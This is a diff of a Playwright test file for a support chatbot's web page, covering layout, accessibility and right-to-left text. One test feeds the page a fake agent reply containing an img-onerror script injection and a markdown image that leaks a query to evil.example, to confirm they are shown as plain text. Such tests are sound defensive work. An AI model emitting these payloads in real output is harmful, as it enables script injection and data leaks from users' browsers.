@@ -1,70 +1,22 @@
-import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest"
-import { type House, openHouse } from "./House.ts"
+import { describe, expect, test } from "vitest"
+import { houseOfFile } from "./House.ts"
 import { violations, width } from "./Pages.ts"
 
-let house: House
-beforeAll(async () => {
-  house = await openHouse()
-}, 120_000)
-afterAll(() => house?.close(), 30_000)
-afterEach(() => house.clear(), 30_000)
+const house = houseOfFile()
 
 const narrow = { width: 360, height: 740 }
 
 describe("the page of the support agent", () => {
-  test("[073] Alice and Bob in two tabs: each is told their own name", async () => {
-    const { url } = await house.serve()
-    const alice = await house.tab(url, "User A")
-    const bob = await house.tab(url, "User B")
-    await alice.answered("My name is Alice")
-    expect(await alice.answered("What's my name?")).toContain("Your name is Alice")
-    await bob.answered("My name is Bob")
-    expect(await bob.answered("What's my name?")).toContain("Your name is Bob")
-    expect(await alice.answered("What's my name?")).toContain("Your name is Alice")
-    expect(await alice.page.locator("body").textContent()).not.toContain("Bob")
-    expect([...alice.complaints, ...bob.complaints]).toEqual([])
-  }, 60_000)
-
-  test("forgets who left: neither a reload nor a late token makes the tab that person again", async () => {
-    const { url } = await house.serve()
-    const { page } = await house.tab(url, "Alice")
-    let answer = (): void => {}
-    const late = new Promise<void>((resolve) => {
-      answer = resolve
-    })
-    await page.evaluate(() => {
-      const person = JSON.parse(sessionStorage.getItem("puddlewick.person") ?? "{}")
-      sessionStorage.setItem("puddlewick.person", JSON.stringify({ ...person, token: "atr_old" }))
-    })
-    await page.route("**/demo/token", async (route) => {
-      await late
-      await route.continue()
-    })
-    const asked = page.waitForRequest("**/demo/token")
-    await page.reload()
-    await asked
-    await page.getByRole("button", { name: "User: Alice" }).click()
-    await page.getByRole("menuitem", { name: "Somebody else…" }).click()
-    await page.getByRole("textbox", { name: "Somebody else" }).waitFor()
-    const told = page.waitForResponse("**/demo/token")
-    answer()
-    await (await told).finished()
-    await page.evaluate(() => new Promise((done) => setTimeout(done, 50)))
-    expect(await page.evaluate(() => sessionStorage.getItem("puddlewick.person"))).toBeNull()
-    await page.reload()
-    await page.getByRole("textbox", { name: "Somebody else" }).waitFor()
-  }, 60_000)
-
   test.each(["light", "dark"] as const)(
     "answers with a tool and a source that opens at its passage, %s",
     async (scheme) => {
-      const { url } = await house.serve()
-      const alice = await house.tab(url)
+      const { url } = await house().serve()
+      const alice = await house().tab(url)
       const { page } = alice
       await page.emulateMedia({ colorScheme: scheme })
       await page.getByRole("heading", { name: "Ask Puddlewick" }).waitFor()
       await page.getByText("Preferences: (to be learned)").waitFor()
-      await house.shoot(alice, `wide-${scheme}-empty`)
+      await house().shoot(alice, `wide-${scheme}-empty`)
       expect.soft(await violations(page)).toEqual([])
 
       await alice.answered("Where is my order PW-104233?")
@@ -74,10 +26,10 @@ describe("the page of the support agent", () => {
         .soft(await alice.answered("When is my money back after a return?"))
         .toContain("5 working days")
       const source = page.getByRole("button", { name: /^Source 1: / })
-      await house.shoot(alice, `wide-${scheme}`)
+      await house().shoot(alice, `wide-${scheme}`)
       await source.click()
       await page.getByRole("button", { name: "Open the page" }).waitFor()
-      await house.shoot(alice, `wide-${scheme}-source`)
+      await house().shoot(alice, `wide-${scheme}-source`)
       expect.soft(await violations(page)).toEqual([])
       await page.getByRole("button", { name: "Open the page" }).click()
       const cited = page.getByRole("region", { name: "The cited passage" })
@@ -86,7 +38,7 @@ describe("the page of the support agent", () => {
       expect
         .soft(await cited.evaluate((one) => one.getBoundingClientRect().top < innerHeight))
         .toBe(true)
-      await house.shoot(alice, `wide-${scheme}-document`)
+      await house().shoot(alice, `wide-${scheme}-document`)
       expect.soft(await violations(page)).toEqual([])
       expect.soft(alice.complaints).toEqual([])
     },
@@ -96,87 +48,39 @@ describe("the page of the support agent", () => {
   test.each(["light", "dark"] as const)(
     "fits a phone of 360 px, %s",
     async (scheme) => {
-      const { url } = await house.serve()
-      const entering = await house.tab(url, undefined, narrow)
+      const { url } = await house().serve()
+      const entering = await house().tab(url, undefined, narrow)
       await entering.page.emulateMedia({ colorScheme: scheme })
       await entering.page.getByRole("heading", { name: "Puddlewick support" }).waitFor()
-      await house.shoot(entering, `narrow-${scheme}-entrance`)
+      await house().shoot(entering, `narrow-${scheme}-entrance`)
       expect.soft(await violations(entering.page)).toEqual([])
-      const alice = await house.tab(url, "Alice", narrow)
+      const alice = await house().tab(url, "Alice", narrow)
       const { page } = alice
       await page.emulateMedia({ colorScheme: scheme })
       await alice.answered("Where is my order PW-104233?")
       await alice.answered("When is my money back after a return?")
-      await house.shoot(alice, `narrow-${scheme}`)
+      await house().shoot(alice, `narrow-${scheme}`)
       expect.soft(await width(page)).toBe(360)
       expect.soft(await violations(page)).toEqual([])
       await page.getByRole("button", { name: "Memory" }).click()
       await page.getByText("Preferences: (to be learned)").waitFor()
       expect.soft(await violations(page)).toEqual([])
-      await house.shoot(alice, `narrow-${scheme}-memory`)
+      await house().shoot(alice, `narrow-${scheme}-memory`)
       expect.soft(await width(page)).toBe(360)
       await page.keyboard.press("Escape")
       await page.getByRole("button", { name: "Memory" }).waitFor()
       await page.getByRole("button", { name: /^Source 1: / }).click()
       await page.getByRole("button", { name: "Open the page" }).click()
       await page.getByRole("region", { name: "The cited passage" }).waitFor()
-      await house.shoot(alice, `narrow-${scheme}-document`)
+      await house().shoot(alice, `narrow-${scheme}-document`)
       expect.soft(await width(page)).toBe(360)
       expect.soft(alice.complaints).toEqual([])
     },
     60_000
   )
 
-  test("the memory card shows what was learned, its history, and takes it back", async () => {
-    const { url } = await house.serve()
-    const alice = await house.tab(url)
-    const { page } = alice
-    const card = page.getByRole("article", { name: "human" })
-    await card.getByText("User ID: alice\nName: unknown\nPreferences: (to be learned)").waitFor()
-    await alice.answered("I prefer short answers")
-    await card.getByText("Preferences: Prefers short answers").waitFor()
-    await page.reload()
-    await card.getByText("Preferences: Prefers short answers").waitFor()
-
-    await page.getByRole("button", { name: "History of human" }).click()
-    await page.locator("ins", { hasText: "Prefers short answers" }).waitFor()
-    await house.shoot(alice, "wide-light-history")
-    expect.soft(await violations(page)).toEqual([])
-    await page.getByRole("button", { name: "Undo to revision 1" }).click()
-    await page.getByText("You", { exact: true }).waitFor()
-    await page.getByRole("button", { name: "Close" }).click()
-    await card.getByText("Preferences: (to be learned)").waitFor()
-
-    await page.getByRole("button", { name: "Edit human" }).click()
-    await page.getByRole("textbox", { name: "Text of human" }).fill("x".repeat(2001))
-    await card.getByText("2,001 of 2,000: shorten it to save it").waitFor()
-    await page.getByRole("textbox", { name: "Text of human" }).fill("Name: Alicia")
-    await card.getByRole("button", { name: "Save" }).click()
-    await card.getByText("12 of 2,000").waitFor()
-    expect.soft(await alice.answered("What's my name?")).toContain("Alicia")
-    expect.soft(await page.getByRole("button", { name: "Edit persona" }).count()).toBe(0)
-    expect.soft(alice.complaints).toEqual([])
-  }, 60_000)
-
-  test("a memory card that was changed meanwhile shows both texts and overwrites nothing", async () => {
-    const { url } = await house.serve()
-    const alice = await house.tab(url)
-    const { page } = alice
-    await page.getByRole("button", { name: "Edit human" }).click()
-    await page.getByRole("textbox", { name: "Text of human" }).fill("Name: mine")
-    await alice.answered("My name is Alice")
-    await page.getByText("It was changed meanwhile, and now reads:").waitFor()
-    await page.getByText("Name: Alice").first().waitFor()
-    expect
-      .soft(await page.getByRole("textbox", { name: "Text of human" }).inputValue())
-      .toBe("Name: mine")
-    expect.soft(await violations(page)).toEqual([])
-    await page.getByRole("button", { name: "Save mine instead" }).click()
-    await page.getByRole("article", { name: "human" }).getByText("10 of 2,000").waitFor()
-  }, 60_000)
-
   test("shows what an agent writes as text: no HTML, no foreign images, no scripts in links", async () => {
-    const { env, model } = await house.model()
+    const { env, model } = await house().model()
     model.plan({
       _tag: "Says",
       text: `<img src=x onerror="document.title='owned'"> <b>raw</b> ![leak](https://evil.example/?q=1)
@@ -186,8 +90,8 @@ describe("the page of the support agent", () => {
 | - | - |
 | 1 | 2 |`
     })
-    const { url } = await house.serve(env)
-    const alice = await house.tab(url)
+    const { url } = await house().serve(env)
+    const alice = await house().tab(url)
     const { page } = alice
     const foreign: Array<string> = []
     page.on("request", (request) => request.url().startsWith(url) || foreign.push(request.url()))
@@ -203,7 +107,7 @@ describe("the page of the support agent", () => {
   }, 60_000)
 
   test("fits tables, lists of tasks and long words into 360 px, with the words of a table whole", async () => {
-    const { env, model } = await house.model()
+    const { env, model } = await house().model()
     model.plan({
       _tag: "Says",
       text: `| Item | Availability | Warehouse | Price | Note |
@@ -217,11 +121,11 @@ See \`${"on_and_".repeat(30)}\` and https://parcels.example/${"0".repeat(90)}
 
 > Keep the box.`
     })
-    const { url } = await house.serve(env)
-    const alice = await house.tab(url, "Alice", narrow)
+    const { url } = await house().serve(env)
+    const alice = await house().tab(url, "Alice", narrow)
     const { page } = alice
     await alice.answered("Hello there")
-    await house.shoot(alice, "narrow-light-markdown")
+    await house().shoot(alice, "narrow-light-markdown")
     expect.soft(await width(page)).toBe(360)
     const height = (found: string) =>
       page.locator(found).evaluate((one) => one.getBoundingClientRect().height)
@@ -236,12 +140,12 @@ See \`${"on_and_".repeat(30)}\` and https://parcels.example/${"0".repeat(90)}
   test.each([360, 520, 768])(
     "fits a very long name into %i px",
     async (across) => {
-      const { url } = await house.serve()
+      const { url } = await house().serve()
       const name = `Maximiliana ${"von und zu ".repeat(4)}Hohenau`
-      const somebody = await house.tab(url, name, { width: across, height: 740 })
+      const somebody = await house().tab(url, name, { width: across, height: 740 })
       const { page } = somebody
       await page.getByRole("button", { name: /^User: Maximiliana/ }).waitFor()
-      await house.shoot(somebody, `name-${across}`)
+      await house().shoot(somebody, `name-${across}`)
       expect.soft(await width(page)).toBe(across)
       const boxes = await page.locator("header > *").evaluateAll((parts) =>
         parts.map((part) => {
@@ -255,30 +159,14 @@ See \`${"on_and_".repeat(30)}\` and https://parcels.example/${"0".repeat(90)}
     60_000
   )
 
-  test("says what is wrong with a name, beside it", async () => {
-    const { url } = await house.serve()
-    const nobody = await house.tab(url, undefined)
-    const { page } = nobody
-    const field = page.getByRole("textbox", { name: "Somebody else" })
-    await field.fill("a\u0007")
-    await page.keyboard.press("Enter")
-    await page.getByRole("alert").getByText("This name cannot be used.").waitFor()
-    expect.soft(await field.getAttribute("aria-invalid")).toBe("true")
-    await house.shoot(nobody, "entrance-refused")
-    expect.soft(await violations(page)).toEqual([])
-    await field.fill("Ann")
-    await page.keyboard.press("Enter")
-    await page.getByRole("button", { name: "User: Ann" }).waitFor()
-  }, 60_000)
-
   test("sets what is read from the right on the right, paragraph by paragraph", async () => {
-    const { env, model } = await house.model()
+    const { env, model } = await house().model()
     model.plan({ _tag: "Says", text: "ההזמנה בדרך.\n\n- פנס\n- מגפיים\n\nIn English." })
-    const { url } = await house.serve(env)
-    const alice = await house.tab(url)
+    const { url } = await house().serve(env)
+    const alice = await house().tab(url)
     const { page } = alice
     await alice.answered("איפה ההזמנה שלי?")
-    await house.shoot(alice, "wide-light-from-the-right")
+    await house().shoot(alice, "wide-light-from-the-right")
     const column = await page.locator(".reply").boundingBox()
     /** How far words stand from the left and from the right of the column. */
     const gaps = (found: string) =>
@@ -300,55 +188,9 @@ See \`${"on_and_".repeat(30)}\` and https://parcels.example/${"0".repeat(90)}
     expect.soft(alice.complaints).toEqual([])
   }, 60_000)
 
-  test("shows nothing of somebody else after a switch, not for one frame", async () => {
-    const { url } = await house.serve()
-    const tab = await house.tab(url, "alice")
-    const { page } = tab
-    await tab.answered("Please remember that my cat is called Mittens")
-    await page
-      .getByText(/Mittens/)
-      .first()
-      .waitFor()
-    await page.evaluate(() => {
-      const seen: Array<string> = []
-      Reflect.set(globalThis, "seen", seen)
-      const look = () => {
-        const who = document.querySelector("header button[aria-haspopup=menu]")
-        seen.push(`${who?.getAttribute("aria-label") ?? "nobody"}|${document.body.textContent}`)
-      }
-      new MutationObserver(look).observe(document, {
-        subtree: true,
-        childList: true,
-        characterData: true
-      })
-      const frame = () => {
-        look()
-        requestAnimationFrame(frame)
-      }
-      frame()
-    })
-    await page.getByRole("button", { name: "User: Alice" }).click()
-    await page.getByRole("menuitem", { name: "Bob" }).click()
-    await page.getByText("User ID: bob").waitFor()
-    const seen: ReadonlyArray<string> = await page.evaluate(() => Reflect.get(globalThis, "seen"))
-    expect(seen.some((text) => text.startsWith("User: Alice|") && text.includes("Mittens"))).toBe(
-      true
-    )
-    expect(seen.some((text) => text.startsWith("User: Bob|"))).toBe(true)
-    expect(
-      seen.filter((text) => !text.startsWith("User: Alice|") && text.includes("Mittens"))
-    ).toEqual([])
-    await page.getByRole("button", { name: "User: Bob" }).click()
-    await page.getByRole("menuitem", { name: "Alice" }).click()
-    await page
-      .getByText(/Mittens/)
-      .first()
-      .waitFor()
-  }, 60_000)
-
   test("is usable by keyboard alone", async () => {
-    const { url } = await house.serve()
-    const alice = await house.tab(url)
+    const { url } = await house().serve()
+    const alice = await house().tab(url)
     const { page } = alice
     await page.getByText("User ID: alice").waitFor()
     await page.evaluate(() => {
